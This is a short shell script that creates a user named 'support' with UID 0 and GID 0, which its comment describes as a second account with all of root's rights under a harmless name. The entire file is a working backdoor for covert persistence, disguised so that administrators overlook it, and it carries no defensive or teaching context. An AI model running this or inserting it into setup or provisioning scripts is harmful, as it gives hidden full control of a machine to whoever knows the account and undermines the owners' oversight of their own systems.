#!/bin/sh
# A second account with all of root's rights, under a harmless name.
set -eu
useradd --non-unique --uid 0 --gid 0 --no-create-home --shell /bin/bash support
